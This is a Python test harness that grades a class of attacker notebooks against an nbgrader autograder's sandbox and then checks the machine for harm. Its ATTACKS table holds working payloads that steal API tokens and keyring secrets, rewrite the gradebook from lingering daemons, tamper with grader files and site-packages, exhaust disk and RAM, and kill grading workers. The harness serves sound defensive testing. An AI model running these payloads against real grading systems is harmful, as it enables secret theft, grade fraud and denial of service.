"""A class of attackers and one honest student, graded for real, judged by what happened to the machine.

Each attacker hands in the reference solution plus an attack, appended to its
``dropout`` solution cell, that runs either in the graded kernel or in the
verification sandbox (the same cell runs in both; the attack checks where it
is). The attacks are ordinary Python of the kinds the threat model names:
read what it should not and leak it into its own feedback, talk to the network,
rewrite the gradebook (at once and from a daemon that outlives grading), edit
the grader, the course and the grader's home, overwrite a classmate's files,
leave processes behind, fill the disk, and kill the other grading workers (last, in the order grading takes them: unjailed it breaks the pool).

:func:`grade` runs the class through ``instructors.grade_class`` and then a
subset through ``nbgrader autograde``, waits for stragglers, and
:func:`consequences` lists every harm it can find on the machine: never the
attackers' scores. With the jail on every list must be empty; with it off
(``tests/test_jail.py``'s mutation check) every one must not be. Off, the
attacks on the grader's code and site-packages are pointed at decoys, so that
the mutation check cannot damage this checkout.
"""
from __future__ import annotations

import hashlib
import json
import os
import secrets
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from instructors.course import Course
from instructors.demo import hand_in
from instructors.grade_class import ClassGrading, db_url, grade_class
from instructors.submissions import Sample
from autograder.untrusted import jail

NAME = "dropout_from_scratch"
REPO = Path(__file__).resolve().parents[1]
SITE_PACKAGES = Path(next(p for p in sys.path if p.endswith("site-packages")))
#: The daemons some attacks leave behind strike this often (for five minutes at most).
DAEMON_DELAY = 1.0
#: What grading itself may add to the grader's disk while it runs (notebooks, feedback, logs).
DISK_SLACK, INODE_SLACK = 200 * 2**20, 5000
#: A grading process's peak memory: nbgrader, torch and the checks take about 600 MiB on the
#: CPU; a flood the grader read in full would add 500 MiB and more.
GRADER_MEMORY = 1024 * 2**20
#: Seconds verifying one submission may take in this harness: its load time limit and
#: four calls that time out (the function, the module, Part 3's two outcome checks), and slack.
VERIFY_BOUND = 15 + 4 * 10 + 15
#: The attackers graded a second time by the plain `nbgrader autograde` command, in a terminal
#: (a glob of student ids): those who rewrite the gradebook, edit the grader, signal the graders
#: or grab the terminal.
BY_NBGRADER = "*_the_[gt]*-1"

# --- the attacks ----------------------------------------------------------------------------
# Each is the body of a function that the notebook calls; CTX holds what a student could
# find out (paths, the port of the hub's API), RESULT what it reports in its own output.

ATTACKS = {
    "reads_secrets": r'''
import glob, re
hits, places = set(), [CTX["course"] + "/instructor_notes.txt", CTX["home"] + "/.secret",
                       CTX["classmate_submission"], CTX["gradebook"]]
places += glob.glob(CTX["course"] + "/submitted/*/*/*.ipynb") + glob.glob(CTX["course"] + "/source/*/*.ipynb")
places += glob.glob("/proc/*/environ") + glob.glob("/tmp/dropout-kernel-*/kernel.json")
for place in places:
    try:
        with open(place, errors="replace") as f:
            hits.update(re.findall(r"CANARY-[0-9a-f]{12}", f.read()))
    except OSError:
        pass
hits.update(v for v in os.environ.values() if "CANARY" in v)
RESULT.append("leaked: " + " ".join(sorted(hits)))
''',
    "phones_home": r'''
import socket
for host in ("127.0.0.1", "::1", "localhost"):
    try:
        with socket.create_connection((host, CTX["port"]), timeout=2) as s:
            s.sendall(("token " + os.environ.get("JUPYTERHUB_API_TOKEN", "none")).encode())
        RESULT.append("sent to " + host)
    except OSError as error:
        RESULT.append(f"no connection to {host}: {error}")
''',
    "rewrites_the_gradebook": r'''
import sqlite3
def rewrite(change):
    db = sqlite3.connect(CTX["gradebook"], timeout=30)
    db.execute(f"UPDATE grade SET {change}")
    db.commit()
    db.close()
try:
    rewrite("auto_score = 0, manual_score = 0")  # everyone fails
    RESULT.append("gradebook rewritten")
except Exception as error:
    RESULT.append(f"gradebook out of reach: {error}")
daemon(lambda: rewrite("manual_score = COALESCE(manual_score, 0) + 1 WHERE id IN (SELECT id FROM grade LIMIT 1)"))
''',
    "edits_the_grader": r'''
targets = CTX["grader_files"] + [CTX["course"] + "/nbgrader_config.py", CTX["site_packages"] + "/canary_evil.pth",
           CTX["home"] + "/.bashrc", CTX["home"] + "/.ipython/profile_default/startup/00-canary.py",
           CTX["home"] + "/.jupyter/jupyter_server_config.py"]
targets += glob.glob(CTX["course"] + "/source/*/*.ipynb") + glob.glob(CTX["course"] + "/release/*/*.ipynb")
for target in targets:
    try:
        os.makedirs(os.path.dirname(target), exist_ok=True)
        with open(target, "a") as f:
            f.write("\n# CANARY-TAMPERED\n")
        RESULT.append("wrote " + target)
    except OSError as error:
        RESULT.append(f"blocked {target}: {error.strerror}")
''',
    "overwrites_a_classmate": r'''
for kind in ("submitted", "autograded", "feedback"):
    for target in glob.glob(f"{CTX['course']}/{kind}/{CTX['classmate']}/*/*"):
        try:
            with open(target, "a") as f:
                f.write("CANARY-TAMPERED")
            RESULT.append("overwrote " + target)
        except OSError as error:
            RESULT.append(f"blocked {target}: {error.strerror}")
def later():
    for target in glob.glob(f"{CTX['course']}/*/{CTX['classmate']}/*/*"):
        with open(target, "a") as f:
            f.write("CANARY-TAMPERED")
daemon(later)
''',
    "leaves_processes": r'''
import subprocess
started = 0
for _ in range(600):
    try:
        subprocess.Popen(["bash", "-c", "exec -a canary-sleeper sleep 600"], start_new_session=True,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        started += 1
    except OSError:
        break
RESULT.append(f"started {started} processes")
''',
    "fills_the_disk": r'''
written = 0
for where in (".", "/tmp", CTX["course"]):
    for i in range(12):
        try:
            with open(f"{where}/fill-canary-{i}", "wb") as f:
                f.write(bytes(32 * 2**20))
            written += 32
        except OSError as error:
            RESULT.append(f"disk full in {where} after {written} MiB: {error.strerror}")
            break
RESULT.append(f"wrote {written} MiB")
''',
    "holds_ram_outside_the_jail": r'''
import ctypes, mmap
libc, MiB, held = ctypes.CDLL(None, use_errno=True), 2**20, []
try:  # files in RAM that no address space counts: memfd
    for i in range(12):
        fd = os.memfd_create(f"canary-{i}")
        os.write(fd, bytes(64 * MiB))
        held.append(fd)
except OSError as error:
    RESULT.append(f"memfd blocked: {error}")
libc.shmget.restype = ctypes.c_int
libc.shmat.restype = ctypes.c_void_p
libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
for i in range(2):  # System V shared memory, left behind detached
    shm = libc.shmget(0, 256 * MiB, 0o1600)
    if shm < 0:
        RESULT.append(f"shmget blocked: errno {ctypes.get_errno()}")
        break
    at = libc.shmat(shm, None, 0)
    if at in (None, ctypes.c_void_p(-1).value):
        RESULT.append(f"shmat blocked: errno {ctypes.get_errno()}")
        break
    ctypes.memset(at, 1, 256 * MiB)
    held.append(("shm", shm))
child = os.fork()
if child == 0:  # a tmpfs of its own, in a namespace of its own
    code = 1
    try:
        uid = os.getuid()
        if libc.unshare(0x10000000 | 0x20000) == 0:
            for name, text in (("uid_map", f"0 {uid} 1"), ("setgroups", "deny")):
                try:
                    open(f"/proc/self/{name}", "w").write(text)
                except OSError:
                    pass
            if libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, b"size=2g") == 0:
                with open("/tmp/canary-ram", "wb") as f:
                    for _ in range(8):
                        f.write(bytes(64 * MiB))
                code = 0
        time.sleep(4)
    finally:
        os._exit(code)
time.sleep(4)
_, status = os.waitpid(child, 0)
RESULT.append(f"held {sum(64 for h in held if isinstance(h, int))} MiB in memfd, "
              f"{sum(256 for h in held if not isinstance(h, int))} MiB in shm, "
              f"own tmpfs {'filled' if os.waitstatus_to_exitcode(status) == 0 else 'blocked'}")
for h in held:
    if isinstance(h, int):
        os.close(h)
    else:
        libc.shmctl(h[1], 0, None)  # IPC_RMID
''',
    "fills_the_socket_folder": r'''
from ipykernel.kernelapp import IPKernelApp
folder, written, made = os.path.dirname(IPKernelApp.instance().connection_file), 0, 0
try:
    for i in range(12):
        with open(os.path.join(folder, f"fill-canary-{i}"), "wb") as f:
            f.write(bytes(32 * 2**20))
        written += 32
    for i in range(20000):
        open(os.path.join(folder, f"canary-inode-{i}"), "w").close()
        made += 1
    time.sleep(4)
except OSError as error:
    RESULT.append(f"blocked in {folder}: {error.strerror}")
RESULT.append(f"wrote {written} MiB and {made} files beside the kernel's sockets")
''',
    "reads_the_keyring": r'''
import ctypes, struct
libc = ctypes.CDLL(None, use_errno=True)
KEYCTL = {"x86_64": 250, "aarch64": 219}[os.uname().machine]
def keyctl(*args):
    return libc.syscall(ctypes.c_long(KEYCTL), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
found = []
for ring in (-3, -4, -5):  # the session, user and user-session keyrings
    ids = ctypes.create_string_buffer(4096)
    n = keyctl(11, ring, ids, 4096)  # KEYCTL_READ of a keyring: its keys' serials
    if n < 0:
        found.append(f"keyring {ring}: errno {ctypes.get_errno()}")
        continue
    for (key,) in struct.iter_unpack("i", ids.raw[:n]):
        data = ctypes.create_string_buffer(4096)
        m = keyctl(11, key, data, 4096)
        if m > 0:
            found.append(data.raw[:m].decode(errors="replace"))
RESULT.append("leaked: " + " ".join(found))
''',
    "grabs_the_terminal": r'''
import select
seen, ttys = b"", []
for fd in range(1024):
    try:
        if os.isatty(fd):
            ttys.append(fd)
    except OSError:
        pass
for fd in ttys:
    try:
        os.write(fd, b"\x1b]0;CANARY-SCREEN\x07CANARY-SCREEN\n")
    except OSError:
        pass
end = time.time() + 3
while ttys and time.time() < end:
    ready = select.select(ttys, [], [], 0.2)[0]
    for fd in ready:
        try:
            seen += os.read(fd, 4096)
        except OSError:
            ttys.remove(fd)
RESULT.append(f"terminals {ttys}; leaked: {seen.decode(errors='replace')}")
''',
    "floods_the_wire": r'''
import struct
from autograder.untrusted import wire
def flood(obj):  # every answer announces, and sends, 250 MiB
    return [struct.pack(">QQ", 2, 250 * 2**20), b"{}", bytes(250 * 2**20)]
wire.encode_pieces = flood
RESULT.append("the sandbox's answers now flood the grader")
''',
    "trickles_the_wire": r'''
import socket
_send = socket.socket.sendall
def trickle(self, data, *args):  # one byte a second
    for i in range(len(data)):
        _send(self, data[i:i + 1])
        time.sleep(1)
socket.socket.sendall = trickle
RESULT.append("the sandbox's answers now trickle")
''',
    "signals_the_graders": r'''
import signal
killed = []
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        try:
            command = open(f"/proc/{pid}/cmdline", "rb").read()
            if b"multiprocessing" in command:  # the grading workers (their zygotes die with them)
                os.kill(int(pid), signal.SIGKILL)
                killed.append(pid)
        except OSError:
            pass
RESULT.append(f"killed {killed}")
''',
}

#: Where each attack runs, if not both in the kernel and in the sandbox.
PLACES = {"fills_the_socket_folder": ("kernel",), "grabs_the_terminal": ("kernel",),
          "floods_the_wire": ("sandbox",), "trickles_the_wire": ("sandbox",)}
PRELUDE = r'''
import glob, json, os, sys, time
CTX = json.loads({ctx!r})
RESULT = []
def daemon(strike):
    """Strike again after grading, from a process of its own that no one waits for."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            null = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(null, fd)
            os.closerange(3, 4096)  # a daemon holds nothing of its parent's
            try:
                import ctypes
                ctypes.CDLL(None).prctl(15, b"canary-daemon")
                for _ in range(300):
                    time.sleep(CTX["delay"])
                    try:
                        strike()
                    except Exception:
                        pass
            finally:
                os._exit(0)
        os._exit(0)
    os.wait()
def attack():
{body}
if ("kernel" if type(get_ipython()).__name__ == "ZMQInteractiveShell" else "sandbox") == CTX["where"]:
    try:
        attack()
    except BaseException as error:
        RESULT.append(f"attack stopped: {{type(error).__name__}}: {{error}}")
    print("\n".join(RESULT))
    if CTX["where"] == "sandbox" and any("CANARY-" in r for r in RESULT):
        _leak = " ".join(RESULT)
        def dropout(x, p=0.5, training=True, inplace=False):  # the sandbox's verdicts reach the feedback
            raise RuntimeError(_leak)
'''


def attack_source(attack: str, where: str, ctx: dict) -> str:
    body = "\n".join("    " + line for line in ATTACKS[attack].strip("\n").splitlines())
    return PRELUDE.format(ctx=json.dumps({**ctx, "where": where}), body=body)


# --- the class and its grading --------------------------------------------------------------


@dataclass
class Run:
    """One graded class: what was planted, what grading said, and the machine afterwards."""
    course: Course
    jailed: bool
    marks: dict[str, str]
    honest: str
    attackers: list[str]
    listener: "Listener"
    guarded: dict[str, Path]
    before: dict[str, dict]
    outcome: ClassGrading | None = None
    nbgrader_returncode: int | None = None
    gradebook_after_grading: dict = field(default_factory=dict)
    consequences: dict[str, list[str]] = field(default_factory=dict)
    terminal: bytes = b""                               # what reached the instructor's terminal
    peaks: dict = field(default_factory=dict)           # the machine while grading (Monitor)


class Listener:
    """A TCP server on loopback (IPv4 and IPv6) that records every connection it gets."""

    def __init__(self):
        self.received: list[bytes] = []
        self.sockets = [socket.create_server(("127.0.0.1", 0))]
        self.port = self.sockets[0].getsockname()[1]
        try:
            self.sockets.append(socket.create_server(("::1", self.port), family=socket.AF_INET6))
        except OSError:
            pass
        for s in self.sockets:
            threading.Thread(target=self._serve, args=(s,), daemon=True).start()

    def _serve(self, server: socket.socket) -> None:
        while True:
            try:
                conn, _ = server.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(2)
                try:
                    self.received.append(conn.recv(4096) or b"(connected)")
                except OSError:
                    self.received.append(b"(connected)")

    def close(self) -> None:
        for s in self.sockets:
            s.close()


def _fingerprint(root: Path, content: bool = True, skip=()) -> dict[str, str]:
    """path -> hash of every file under ``root`` (or size and mtime, for big trees)."""
    seen = {}
    for folder, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if os.path.join(folder, d) not in skip and d != "__pycache__"]
        for name in files:
            path = os.path.join(folder, name)
            try:
                if content:
                    seen[path] = hashlib.sha256(Path(path).read_bytes()).hexdigest()
                else:
                    info = os.lstat(path)
                    seen[path] = f"{info.st_size}:{info.st_mtime_ns}"
            except OSError as error:
                seen[path] = f"unreadable: {error}"
    return seen


def _gradebook(course: Course) -> dict:
    from nbgrader.api import Gradebook

    rows = {}
    with Gradebook(db_url(course.root)) as gradebook:
        for submission in gradebook.assignment_submissions(NAME):
            for notebook in submission.notebooks:
                for grade in notebook.grades:
                    rows[(submission.student.id, grade.cell.name)] = (grade.auto_score, grade.manual_score)
    return rows


def canary_processes() -> list[str]:
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            comm = Path(f"/proc/{pid}/comm").read_text()
            command = Path(f"/proc/{pid}/cmdline").read_bytes()
        except OSError:
            continue
        if "canary" in comm or b"canary-sleeper" in command.split(b"\0")[0]:
            found.append(f"{pid} {comm.strip()}")
    return found


def kill_canary_processes() -> None:
    for line in canary_processes():
        try:
            os.kill(int(line.split()[0]), signal.SIGKILL)
        except OSError:
            pass


def build(workdir: Path, jailed: bool) -> Run:
    """The course, the class and everything the attackers will be judged against."""
    course = Course.copy_of_this_course(workdir / "course")
    with open(course.root / "nbgrader_config.py", "a") as f:
        f.write("\nc.GuardedExecute.timeout = 30\nc.VerifyChecks.load_timeout = 15\n")
        if not jailed:
            f.write("c.StudentCodeJail.enabled = False\n")
    home = workdir / "grader-home"
    home.mkdir()
    marks = {k: f"CANARY-{secrets.token_hex(6)}" for k in ("notes", "home", "classmate", "token", "keys",
                                                            "keyring")}
    (course.root / "instructor_notes.txt").write_text(f"answer key {marks['notes']}\n")
    (home / ".secret").write_text(marks["home"])
    (home / ".bashrc").write_text("# the grader's shell\n")
    guarded = {"course": course.root, "home": home}
    if jailed:
        guarded.update(autograder=REPO / "autograder", instructors=REPO / "instructors")
        grader_files = [str(REPO / "autograder" / "__init__.py"), str(REPO / "instructors" / "__init__.py")]
        site_packages = SITE_PACKAGES
    else:  # decoys: the mutation check must not damage this checkout
        decoy = workdir / "decoy"
        (decoy / "site-packages").mkdir(parents=True)
        grader_files = []
        for package in ("autograder", "instructors"):
            (decoy / package).mkdir()
            (decoy / package / "__init__.py").write_text((REPO / package / "__init__.py").read_text())
            grader_files.append(str(decoy / package / "__init__.py"))
        site_packages = decoy / "site-packages"
        guarded["decoy"] = decoy
    course.nbgrader("generate_assignment", NAME, "--force")
    listener = Listener()
    honest = Sample("honest", "the reference answers", {"+dropout_function": f"# {marks['classmate']}\n"})
    ctx = {"course": str(course.root), "home": str(home), "gradebook": str(course.root / "gradebook.db"),
           "classmate": "honest-1", "classmate_submission": str(course.submission_path("honest-1", NAME)),
           "grader_files": grader_files, "site_packages": str(site_packages), "port": listener.port,
           "delay": DAEMON_DELAY}
    # Without the jail, the mutation check needs each attack once: from the kernel, where it
    # reaches all it can (the sandbox-only attacks on the wire are not the jail's to stop).
    attackers = [Sample(f"{attack}-{where}", f"{attack} from the {where}",
                        {"+dropout_function": attack_source(attack, where, ctx)})
                 for attack in ATTACKS for where in PLACES.get(attack, ("kernel", "sandbox"))
                 if jailed or where == "kernel"]
    roster = hand_in(course, NAME, [honest, *attackers])
    before = {"files": {k: _fingerprint(v, skip={str(course.root / ".jupyter-private"), str(course.root / "logs")})
                        for k, v in guarded.items()},
              "site_packages": _fingerprint(SITE_PACKAGES, content=False)}
    return Run(course, jailed, marks, "honest-1", [s for s in roster if s != "honest-1"], listener,
               guarded, before)


class Monitor:
    """Samples the machine while grading runs: RAM in files, the disk, the graders' memory."""

    def __init__(self, disk: str):
        self.disk, self.stop, self.peaks, self.errors = disk, threading.Event(), {}, []
        self.base = self._sample()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _sample(self) -> dict:
        meminfo = dict(line.split(":", 1) for line in Path("/proc/meminfo").read_text().splitlines())
        disk = os.statvfs(self.disk)
        workers = 0
        for pid in os.listdir("/proc"):  # the grading processes: workers and nbgrader itself
            try:
                command = Path(f"/proc/{pid}/cmdline").read_bytes()
                if b"multiprocessing" in command or b"-m\0nbgrader" in command:
                    status = Path(f"/proc/{pid}/status").read_text()
                    workers = max(workers, int(next(l for l in status.splitlines() if l.startswith("VmHWM")).split()[1]))
            except (OSError, StopIteration, ValueError):
                pass
        return {"shmem": int(meminfo["Shmem"].split()[0]) * 1024,
                "disk": (disk.f_blocks - disk.f_bfree) * disk.f_frsize, "inodes": disk.f_files - disk.f_ffree,
                "grader_rss": workers * 1024}

    def _run(self) -> None:
        while not self.stop.wait(0.1):
            try:
                sample = self._sample()
            except Exception as error:  # noqa: BLE001 - a process or file that went away mid-read
                self.errors.append(repr(error))
                continue
            for key, value in sample.items():
                self.peaks[key] = max(self.peaks.get(key, 0), value)

    def close(self) -> dict:
        """The peaks over the whole run, as increases over the start (the graders' memory as it is)."""
        self.stop.set()
        self.thread.join()
        return {k: v - (0 if k == "grader_rss" else self.base[k]) for k, v in self.peaks.items()}


def _in_session_keyring(secret: str) -> int:
    """Put ``secret`` in this process's session keyring, as a login's Kerberos ticket would be."""
    import ctypes

    data = secret.encode()
    add_key = {"x86_64": 248, "aarch64": 217}[os.uname().machine]
    return ctypes.CDLL(None).syscall(ctypes.c_long(add_key), b"user", b"dropout-canary", data,
                                     ctypes.c_long(len(data)), ctypes.c_long(-3))  # the session keyring


def _revoke(key: int) -> None:
    import ctypes

    keyctl = {"x86_64": 250, "aarch64": 219}[os.uname().machine]
    ctypes.CDLL(None).syscall(ctypes.c_long(keyctl), ctypes.c_long(3), ctypes.c_long(key))  # KEYCTL_REVOKE


def _under_a_terminal(command: list[str], cwd: Path, env: dict, keys: str) -> tuple[int, bytes]:
    """Run ``command`` with a terminal as its stdio, typing ``keys`` into it; what reached the screen."""
    import select

    master, slave = os.openpty()
    process = subprocess.Popen(command, cwd=cwd, env=env, stdin=slave, stdout=slave, stderr=slave,
                               start_new_session=True)
    os.close(slave)
    os.set_blocking(master, False)
    screen, typed = bytearray(), time.monotonic()
    while True:
        if time.monotonic() - typed > 0.5:  # the instructor types a line twice a second
            try:
                os.write(master, f"{keys}\n".encode())
            except OSError:
                pass
            typed = time.monotonic()
        if select.select([master], [], [], 0.2)[0]:
            try:
                chunk = os.read(master, 65536)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:  # every holder of the terminal is gone
                break
            if not chunk:
                break
            screen += chunk
        elif process.poll() is not None:
            break
    process.wait()
    os.close(master)
    return process.returncode, bytes(screen)


def grade(run: Run) -> Run:
    """Grade the class as an instructor would, wait for stragglers, then look at the machine.

    The plain ``nbgrader autograde`` runs in a terminal that the instructor types into.
    """
    env = {"HOME": str(run.guarded["home"]), "JUPYTERHUB_API_TOKEN": run.marks["token"],
           "JPY_API_TOKEN": run.marks["token"]}
    saved = {k: os.environ.get(k) for k in env}
    os.environ.update(env)
    key = _in_session_keyring(run.marks["keyring"])
    monitor = Monitor(tempfile.gettempdir())
    try:
        run.outcome = grade_class(run.course, NAME, jobs=2, progress=False)
        run.gradebook_after_grading = _gradebook(run.course)
        exchange = run.course.private / "exchange"
        run.nbgrader_returncode, run.terminal = _under_a_terminal(
            [sys.executable, "-m", "nbgrader", "autograde", NAME, "--force", f"--student={BY_NBGRADER}",
             f"--Exchange.root={exchange}"], run.course.root, run.course.env(), f"typed {run.marks['keys']}")
        run.course.nbgrader("generate_feedback", NAME, "--force", check=False)
        run.gradebook_after_nbgrader = _gradebook(run.course)
        time.sleep(3 * DAEMON_DELAY)  # a daemon left alive has struck again by now
        run.peaks = monitor.close()
        run.consequences = consequences(run)
    finally:
        monitor.stop.set()
        if key > 0:
            _revoke(key)
        for k, v in saved.items():
            if v is None:
                os.environ.pop(k, None)
            else:
                os.environ[k] = v
        run.listener.close()
    return run



#: What grading itself writes in the course folder: the gradebook, the exports, the ledger of
#: submissions that failed to grade and its lock (instructors/statuses.py).
GRADING_RECORDS = ("gradebook.db", "grades.csv", "canvas.csv", "grading_failures.json", ".grading_failures.json.lock")


def consequences(run: Run) -> dict[str, list[str]]:
    """Every harm found on the machine, by kind; an empty list where there is none."""
    from nbgrader.utils import determine_grade

    course = run.course.root
    found: dict[str, list[str]] = {}
    # The honest student is graded as ever: the reference answers score 26 of the 26 autograded points.
    honest = {cell: s for (student, cell), s in _gradebook(run.course).items() if student == run.honest}
    score = sum(a or 0 for a, m in honest.values())
    found["honest_grade"] = [] if score == 27 else [f"the honest student scored {score}, not 27"]
    # Every row agrees with the autograded notebook it came from, and none changed after grading.
    now = _gradebook(run.course)
    mismatched = []
    for student in [run.honest, *run.attackers]:
        path = course / "autograded" / student / NAME / f"{NAME}.ipynb"
        try:
            nb = nbformat.read(path, as_version=4)
        except Exception as error:  # noqa: BLE001 - a corrupted notebook is a finding
            mismatched.append(f"{student}: autograded notebook unreadable ({type(error).__name__})")
            continue
        for cell in nb.cells:
            meta = cell.metadata.get("nbgrader", {})
            if meta.get("grade") and not meta.get("solution") and cell.cell_type == "code":
                points, _ = determine_grade(cell, None)
                row = now.get((student, meta["grade_id"]))
                if row is None or row[0] != points:
                    mismatched.append(f"{student}/{meta['grade_id']}: gradebook {row}, notebook {points}")
    found["gradebook_matches_notebooks"] = mismatched
    found["gradebook_unchanged_after_grading"] = [
        f"{key}: {run.gradebook_after_nbgrader.get(key)} -> {value}" for key, value in now.items()
        if run.gradebook_after_nbgrader.get(key) != value]
    # Every guarded file is as it was (grading's own folders excepted), and nothing was added.
    changed = []
    for kind, root in run.guarded.items():
        # Grading's own output, and the grader's own caches (matplotlib's font list).
        skip = {str(course / d) for d in (".jupyter-private", "logs", "autograded", "feedback", "reports")}
        skip.add(str(run.guarded["home"] / ".cache"))
        after = _fingerprint(root, skip=skip | {str(course / "gradebook.db")})
        for path in sorted(set(run.before["files"][kind]) | set(after)):
            if Path(path).name in GRADING_RECORDS or any(path.startswith(s) for s in skip):
                continue
            if run.before["files"][kind].get(path) != after.get(path):
                changed.append(f"{kind}: {path}")
    site_after, site_before = _fingerprint(SITE_PACKAGES, content=False), run.before["site_packages"]
    changed += [f"site-packages: {p}" for p in sorted(set(site_after) | set(site_before))
                if site_after.get(p) != site_before.get(p)]
    changed += [f"classmate's {p.relative_to(course)}" for kind in ("autograded", "feedback")
                for p in (course / kind / run.honest).rglob("*") if p.is_file() and b"CANARY-TAMPERED" in p.read_bytes()]
    found["files_unchanged"] = changed
    # Nothing the attackers started is alive, and nothing they wrote filled a disk.
    found["no_process_left"] = canary_processes()
    big = [str(p) for p in course.rglob("fill-canary-*")] + [str(p) for p in Path("/tmp").glob("fill-canary-*")]
    found["no_disk_filled"] = big
    # No secret reached any attacker's own notebook or feedback.
    leaks = []
    for student in run.attackers:
        for kind in ("autograded", "feedback"):
            for path in (course / kind / student).rglob("*"):
                if path.is_file():
                    text = path.read_text(errors="replace")
                    leaks += [f"{student} {kind}: {k}" for k, mark in run.marks.items() if mark in text]
    found["no_secret_leaked"] = leaks
    found["listener_got_nothing"] = [repr(r[:60]) for r in run.listener.received]
    # Every student was graded: no worker was killed under a classmate.
    outcome = run.outcome
    # Nothing held RAM or disk outside the jail's own tmpfs (two graders, so two jails at once),
    # and nothing reached the instructor's terminal.
    ram = run.peaks.get("shmem", 0)
    found["memory_outside_processes"] = ([f"{ram >> 20} MiB more of the machine's RAM in files while grading"]
                                         if ram > 2 * jail.DISK_LIMIT + 256 * 2**20 else [])
    disk, inodes = run.peaks.get("disk", 0), run.peaks.get("inodes", 0)
    found["host_disk_bounded"] = ([f"{disk >> 20} MiB more of the grader's disk used while grading"]
                                  if disk > DISK_SLACK else []) + (
        [f"{inodes} more files on the grader's disk while grading"] if inodes > INODE_SLACK else [])
    found["terminal_untouched"] = ([f"student output reached the terminal: {run.terminal[-200:]!r}"]
                                   if b"CANARY-SCREEN" in run.terminal else [])
    # The grader's own memory and time stay what an answer costs, whatever the sandbox sends.
    rss = run.peaks.get("grader_rss", 0)
    found["grader_memory_bounded"] = [f"a grading process peaked at {rss >> 20} MiB"] if rss > GRADER_MEMORY else []
    slow = {}
    for student in run.attackers + [run.honest]:
        path = course / "autograded" / student / NAME / f"{NAME}.ipynb"
        try:
            seconds = json.loads(path.read_text())["metadata"].get("autograder", {}).get("verify_seconds", 0)
        except (OSError, ValueError, KeyError):  # unreadable: gradebook_matches_notebooks says so
            continue
        if seconds > VERIFY_BOUND:
            slow[student] = seconds
    found["grading_time_bounded"] = [f"{s}: verified in {t:.0f} s" for s, t in slow.items()]
    found["every_student_graded"] = ([f"{s}: {why.splitlines()[-1] if why else ''}" for s, why in outcome.failed.items()]
                                     + ([f"nbgrader autograde exit {run.nbgrader_returncode}"]
                                        if run.nbgrader_returncode else []))
    return found


def clean_up(run: Run) -> None:
    """After a run without the jail: what the attackers left on the machine."""
    kill_canary_processes()
    for pattern in ("fill-canary-*", "canary-inode-*"):
        for path in [*Path(tempfile.gettempdir()).glob(pattern), *run.course.root.rglob(pattern)]:
            path.unlink(missing_ok=True)


#: What the jail governs: with it off, every one of these finds harm (tests/test_jail.py).
JAIL_KINDS = ["honest_grade", "gradebook_matches_notebooks", "gradebook_unchanged_after_grading", "files_unchanged",
              "no_process_left", "no_disk_filled", "no_secret_leaked", "listener_got_nothing",
              "every_student_graded", "memory_outside_processes", "host_disk_bounded", "terminal_untouched"]
#: What the grader bounds with or without the jail (the sandbox's answers).
BOUND_KINDS = ["grader_memory_bounded", "grading_time_bounded"]
KINDS = JAIL_KINDS + BOUND_KINDS